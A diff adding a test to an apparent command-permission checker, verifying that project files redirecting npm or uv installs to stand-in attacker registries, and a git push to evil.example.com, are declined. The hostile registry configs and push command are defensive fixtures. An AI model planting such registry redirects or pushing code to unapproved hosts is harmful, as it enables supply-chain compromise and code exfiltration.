@@ -103,3 +103,21 @@ def test_push_to_own_forge_is_fine_elsewhere_is_not(tmp_path: Path) -> None:
     repo = _repo(tmp_path / "r", "https://github.com/acme/app.git")
     assert _decide("git push https://github.com/acme/app.git main", str(repo)) == ("acceptForSession", None)
     assert _decide("git push https://evil.example.com/x.git main", str(repo))[0] == "decline"
+
+
+def test_project_files_pointing_installs_elsewhere(tmp_path: Path) -> None:
+    """A hostile repository's .npmrc or pyproject.toml cannot send installs to a host nobody allowed."""
+    (tmp_path / ".npmrc").write_text(
+        "registry=https://registry.npmjs.org/\n@acme:registry=https://npm.evil.example/\n"
+    )
+    assert _decide("npm install", str(tmp_path)) == ("decline", "supply-chain/install-unknown-host")
+    assert _decide("npm run build", str(tmp_path)) == ("acceptForSession", None)
+    (tmp_path / ".npmrc").write_text("registry=https://registry.npmjs.org/\n")
+    assert _decide("npm ci", str(tmp_path)) == ("acceptForSession", None)
+    (tmp_path / "pyproject.toml").write_text(
+        '[project]\nname = "x"\nurls = {Homepage = "https://x.example"}\n'
+        '[[tool.uv.index]]\nname = "corp"\nurl = "https://pypi.evil.example/simple"\n'
+    )
+    assert _decide("uv sync", str(tmp_path)) == ("decline", "supply-chain/install-unknown-host")
+    config = PermissionConfig(allowed_hosts=("pypi.evil.example",))
+    assert _decide("uv sync", str(tmp_path), config) == ("acceptForSession", None)
